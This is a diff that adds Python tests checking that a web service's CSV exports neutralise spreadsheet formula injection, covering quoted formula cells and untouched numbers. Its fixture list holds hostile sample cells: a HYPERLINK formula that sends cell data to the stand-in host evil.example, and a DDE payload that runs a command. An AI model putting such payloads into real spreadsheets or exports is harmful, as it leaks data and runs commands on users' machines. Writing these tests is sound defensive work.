@@ -195,3 +195,36 @@ def test_someone_elses_task_is_404(stranger_api, api, iris, suffix):
     assert stranger_api.get(body["status_url"] + suffix).status_code == 404
     assert stranger_api.delete(body["status_url"]).status_code == 404
     assert stranger_api.get("/api/v1/tasks/not-a-uuid").status_code == 404
+
+
+FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"Click")', "+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)", "\tTAB", "\rCR"]
+
+
+def test_a_csv_result_opens_formula_cells_as_text(api, iris, submit):
+    """CSV injection: a partner's input cells come back in the owner's spreadsheet as text, numbers as numbers."""
+    text = io.StringIO()
+    writer = csv.writer(text)
+    writer.writerow(["id", "=evil()", "note", *HEADER.split(",")])
+    writer.writerows([-i - 1, "x", formula, 5.1, 3.5, 1.4, 0.2] for i, formula in enumerate(FORMULAS))
+    data = io.BytesIO(text.getvalue().encode())
+    data.name = "rows.csv"
+    submitted = submit("iris", file=data)
+    assert submitted.status_code == 202, submitted.json()
+    response = api.get(submitted.json()["result_url"] + "?format=csv")
+    rows = list(csv.reader(io.StringIO(b"".join(response.streaming_content).decode(), newline="")))
+    assert rows[0][:3] == ["id", "'=evil()", "note"]
+    assert [r[2] for r in rows[1:]] == ["'" + text for text in FORMULAS]
+    assert [r[0] for r in rows[1:]] == [str(-i - 1) for i in range(len(FORMULAS))]  # negative numbers untouched
+    assert [r[3] for r in rows[1:]] == ["5.1"] * len(FORMULAS)
+    assert all(r[4 + 3] == "0" for r in rows[1:])  # the prediction column, a number
+
+
+def test_text_cells_that_are_plain_numbers_stay_numbers():
+    import pandas as pd
+
+    table = pd.DataFrame({"as_text": pd.Series(["-1.5", "+2", "-3e-4", "-", "=1+1"], dtype="str"), "number": [-1.5, 2, 3, 4, 5]})
+    out = io.BytesIO()
+    batch._write_csv(table, out, header=True)
+    rows = list(csv.reader(io.StringIO(out.getvalue().decode())))
+    assert [r[0] for r in rows[1:]] == ["-1.5", "+2", "-3e-4", "'-", "'=1+1"]
+    assert [r[1] for r in rows[1:]] == ["-1.5", "2", "3", "4", "5"]
